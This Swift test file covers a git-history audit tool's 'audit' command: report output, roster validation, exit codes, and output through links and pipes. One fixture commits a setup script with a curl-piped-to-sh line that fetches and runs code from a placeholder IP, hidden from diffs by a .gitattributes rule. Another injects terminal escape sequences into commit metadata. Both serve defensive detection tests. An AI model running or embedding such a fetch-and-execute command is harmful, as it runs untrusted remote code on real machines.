import CustodyTestSupport
import Foundation
import Testing

@Suite(.serialized) struct AuditCommandTests {
    final class Home {
        let path: String
        init() throws {
            path = FileManager.default.temporaryDirectory.appendingPathComponent("custody-cli-\(UUID().uuidString)").path
            try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        }
        deinit { try? FileManager.default.removeItem(atPath: path) }

        func write(_ name: String, _ text: String) throws -> String {
            let file = path + "/" + name
            try Data(text.utf8).write(to: URL(fileURLWithPath: file))
            return file
        }
    }

    static let roster = """
        people:
          - id: adavis
            name: Alice Davis
            emails: [alice@prime.example]
            citizenship: [US]
            usPerson: true
            clearance: secret
            employer: Prime Contractor LLC

        """

    static func makeRepository() throws -> TemporaryGitRepository {
        let repo = try TemporaryGitRepository()
        let alice = TemporaryGitRepository.Signature(name: "Alice Davis", email: "alice@prime.example")
        let eve = TemporaryGitRepository.Signature(name: "Eve\u{1b}[2J\u{202E}", email: "eve@evil.example", date: "1700000100 +0000")
        try repo.write("a.txt", "one\n")
        try repo.commit("First", author: alice)
        try repo.write("b.txt", "two\n")
        try repo.commit("Second \u{1b}]0;title\u{7}", author: eve)
        return repo
    }

    @Test func auditsPrintsTextAndLeavesTheRepositoryUnchanged() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let roster = try home.write("roster.yaml", Self.roster)
        let before = try repo.snapshot()
        let result = try CustodyBinary.run(
            ["audit", repo.path, "--roster", roster, "--workspace", home.path + "/ws"],
            home: home.path
        )
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.contains("Commits      2 (all read in this run)"))
        #expect(result.stdout.contains("adavis  Alice Davis"))
        #expect(result.stdout.contains("employer Prime Contractor LLC · citizenship US · US person yes · clearance secret"))
        #expect(result.stdout.contains("Eve^[[2J<U+202E> <eve@evil.example>"))
        #expect(!result.stdoutBytes.contains(0x1b))
        #expect(result.stderr.isEmpty)  // no progress line when stderr is not a terminal
        #expect(try repo.snapshot() == before)
        #expect(FileManager.default.fileExists(atPath: home.path + "/ws/custody.sqlite"))

        // A second audit reads only the new commit and says so.
        try repo.write("c.txt", "three\n")
        try repo.commit("Third", author: .init(name: "Alice Davis", email: "alice@prime.example"))
        let second = try CustodyBinary.run(
            ["audit", repo.path, "--roster", roster, "--workspace", home.path + "/ws"],
            home: home.path
        )
        #expect(second.status == 0)
        #expect(second.stdout.contains("Commits      3 (1 new in this run, 2 from earlier runs)"))
    }

    /// An audit run from inside the audited checkout: git would take the checkout's own
    /// `scripts/.gitattributes` (`-diff`) and show the script's change as binary, unseen.
    @Test func theCheckoutsOwnAttributesHideNothingFromAnAuditRunInside() throws {
        let home = try Home()
        let repo = try TemporaryGitRepository()
        let mallory = TemporaryGitRepository.Signature(name: "Mallory", email: "mallory@example.net")
        try repo.write("README", "tools\n")
        try repo.commit("Start", author: mallory)
        try repo.write("scripts/.gitattributes", "setup.sh -diff\n")
        try repo.write("scripts/setup.sh", "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sh\n")
        try repo.commit("Add setup", author: mallory)
        for directory in [repo.path, repo.path + "/scripts", home.path] {
            let result = try CustodyBinary.run(
                ["audit", directory == home.path ? repo.path : ".", "--format", "json", "--workspace", home.path + "/ws", "--no-store"],
                home: home.path, currentDirectory: directory
            )
            #expect(result.status == 0, "\(result.stderr)")
            let report = try JSONSerialization.jsonObject(with: Data(result.stdoutBytes)) as? [String: Any]
            let findings = report?["findings"] as? [[String: Any]] ?? []
            #expect(findings.contains { ($0["path"] as? String) == "scripts/setup.sh" }, "run in \(directory)")
        }
    }

    @Test func jsonToAFileUsesTheDefaultWorkspace() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let output = home.path + "/report.json"
        let result = try CustodyBinary.run(["audit", "--format", "json", "--output", output, "--jobs", "1"], home: home.path, currentDirectory: repo.path)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout.isEmpty)
        let json = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: output))) as? [String: Any])
        #expect(json["schemaVersion"] as? Int == 1)
        let counts = try #require(json["counts"] as? [String: Any])
        #expect(counts["commits"] as? Int == 2)
        #expect((json["unknownIdentities"] as? [Any])?.count == 2)
        // $CUSTODY_HOME was used, not the repository.
        #expect(FileManager.default.fileExists(atPath: home.path + "/.custody/custody.sqlite"))
        #expect(!FileManager.default.fileExists(atPath: repo.path + "/.custody"))
    }

    /// `--output` writes in place like a shell redirection: a symbolic link stays a link (its target
    /// gets the report) and a named pipe stays a pipe (a reader receives the report). A write
    /// through a temporary file and a rename would replace either, as it once replaced /dev/null.
    @Test func outputIsWrittenInPlaceThroughLinksAndPipes() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let target = try home.write("real.json", "old contents that must be truncated\n")
        let link = home.path + "/link.json"
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        let viaLink = try CustodyBinary.run(["audit", repo.path, "--no-store", "--format", "json", "--output", link], home: home.path)
        #expect(viaLink.status == 0, "\(viaLink.stderr)")
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: link)) == target)
        let written = try Data(contentsOf: URL(fileURLWithPath: target))
        #expect((try JSONSerialization.jsonObject(with: written) as? [String: Any])?["schemaVersion"] as? Int == 1)

        let fifo = home.path + "/pipe"
        #expect(mkfifo(fifo, 0o600) == 0)
        let reader = Process()
        reader.executableURL = URL(fileURLWithPath: "/usr/bin/timeout")
        reader.arguments = ["120", "cat", fifo]
        let received = Pipe()
        reader.standardOutput = received
        try reader.run()
        let viaPipe = try CustodyBinary.run(["audit", repo.path, "--no-store", "--format", "json", "--output", fifo], home: home.path)
        let bytes = received.fileHandleForReading.readDataToEndOfFile()
        reader.waitUntilExit()
        #expect(viaPipe.status == 0, "\(viaPipe.stderr)")
        #expect((try JSONSerialization.jsonObject(with: bytes) as? [String: Any])?["schemaVersion"] as? Int == 1)
        var status = stat()
        #expect(lstat(fifo, &status) == 0 && (status.st_mode & S_IFMT) == S_IFIFO)
    }

    @Test func unwritableOutputIsAOneLineIOError() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let result = try CustodyBinary.run(["audit", repo.path, "--no-store", "--output", home.path + "/missing-dir/r.txt"], home: home.path)
        #expect(result.status == 3, "\(result.status)")
        #expect(result.stderr.hasPrefix("custody: cannot write "), "\(result.stderr)")
        #expect(result.stderr.split(separator: "\n").count == 1)
    }

    @Test func badRosterExitsTwoNamingTheLine() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let roster = try home.write("roster.yaml", Self.roster.replacingOccurrences(of: "clearance: secret", with: "clearance: secrt"))
        let result = try CustodyBinary.run(["audit", repo.path, "--roster", roster, "--no-store"], home: home.path)
        #expect(result.status == 2)
        #expect(result.stderr.contains(#"roster.yaml:7: people[0].clearance: "secrt" is not one of none, confidential, secret, top-secret"#))
        #expect(result.stdout.isEmpty)
    }

    @Test func notARepositoryExitsThree() throws {
        let home = try Home()
        let result = try CustodyBinary.run(["audit", home.path, "--no-store"], home: home.path)
        #expect(result.status == 3)
        #expect(result.stderr.hasPrefix("custody: "))
        #expect(result.stderr.split(separator: "\n").count == 1)
    }

    @Test func missingObjectIsReportedAndExitsThree() throws {
        let home = try Home()
        let repo = try TemporaryGitRepository()
        let alice = TemporaryGitRepository.Signature(name: "Alice Davis", email: "alice@prime.example")
        try repo.write("small.txt", "small\n")
        try repo.commit("First", author: alice)
        try repo.write("big.bin", "pretend this is a large blob left out of a partial clone\n")
        try repo.commit("Add big", author: alice)
        let blob = try repo.gitString(["rev-parse", "HEAD:big.bin"])
        let object = repo.path + "/.git/objects/" + blob.prefix(2) + "/" + blob.dropFirst(2)
        try FileManager.default.removeItem(atPath: object)
        let before = try repo.snapshot()
        let result = try CustodyBinary.run(["audit", repo.path, "--workspace", home.path + "/ws"], home: home.path)
        #expect(result.status == 3, "\(result.stderr)")
        #expect(result.stdout.contains("Could not be read: the audit is incomplete"))
        #expect(result.stderr.contains("the audit is incomplete"))
        #expect(try repo.snapshot() == before)
    }

    @Test(arguments: [
        ["audit", "--rev", "HEAD", "--all-refs"],
        ["audit", "--jobs", "0"],
        ["audit", "--format", "xml"],
        ["audit", "--no-such-flag"],
        ["audit", "--fail-on", "severe"],
    ])
    func usageErrorsExitSixtyFour(arguments: [String]) throws {
        let home = try Home()
        let result = try CustodyBinary.run(arguments, home: home.path)
        #expect(result.status == 64, "\(arguments): \(result.stderr)")
    }

    @Test func workspaceInsideTheRepositoryIsRefused() throws {
        let home = try Home()
        let repo = try Self.makeRepository()
        let before = try repo.snapshot()
        let result = try CustodyBinary.run(["audit", repo.path, "--workspace", repo.path + "/.state"], home: home.path)
        #expect(result.status == 2)
        #expect(result.stderr.contains("inside the audited repository"))
        #expect(try repo.snapshot() == before)
    }
}
